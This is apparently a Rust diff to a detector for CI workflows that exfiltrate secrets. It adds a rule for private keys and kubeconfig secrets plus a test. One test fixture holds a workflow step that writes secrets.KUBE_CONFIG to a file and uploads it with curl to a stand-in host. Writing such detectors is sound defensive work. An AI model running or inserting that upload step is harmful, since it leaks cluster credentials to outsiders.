@@ -184,7 +184,9 @@ fn judge(evidence: &Evidence<'_>, group: Vec<usize>) -> Option<Sighting> {
     if settings {
         signals.remove(&Signal::LabelledSecrets);
     }
+    let keys_sent = payload_names(evidence, &group).iter().any(|name| is_key_of_machines(name));
     if unrelated(&names, None, login_host) && !own_registry
+        || keys_sent && !shipped
         || !settings && several_purposes(&names)
         || (job_token && !names.is_empty())
         || to_chat
@@ -232,6 +234,17 @@ fn holds_login_of(evidence: &Evidence<'_>, group: &[usize], service: &crate::ser
             || named.into_iter().any(|name| own(crate::services::of_secret(&name)))
             || texts.iter().any(|text| text.contains(&format!("{}_", service.name.to_ascii_uppercase())))
     })
+}
+
+/// A private key or a cluster's configuration: it is used where the job runs, and no service takes it as a message.
+fn is_key_of_machines(name: &str) -> bool {
+    let upper = name.to_ascii_uppercase();
+    let has = |word: &str| upper.contains(word);
+    !has("PUBLIC")
+        && !has("PUB_KEY")
+        && (has("KUBECONFIG")
+            || has("KUBE_CONFIG")
+            || (has("SSH") || has("DEPLOY") || has("GPG") || has("PRIVATE")) && upper.ends_with("KEY"))
 }
 
 /// Clients that log in to a machine before they send.
@@ -434,6 +447,20 @@ mod tests {
             Verdict::Malicious,
             &["NPM_TOKEN"],
             &["collector.example"],
+        );
+    }
+
+    #[test]
+    fn a_key_of_machines_as_a_message() {
+        check(
+            "secret-to-host",
+            "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: make\n      - run: echo '${{ secrets.KUBE_CONFIG }}' > k && curl -F f=@k https://k8s-lint.example/in\n",
+            Verdict::Malicious,
+            &["KUBE_CONFIG"],
+            &["k8s-lint.example"],
+        );
+        silent(
+            "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo '${{ secrets.KUBE_CONFIG }}' > k && kubectl --kubeconfig k apply -f x\n",
         );
     }
 
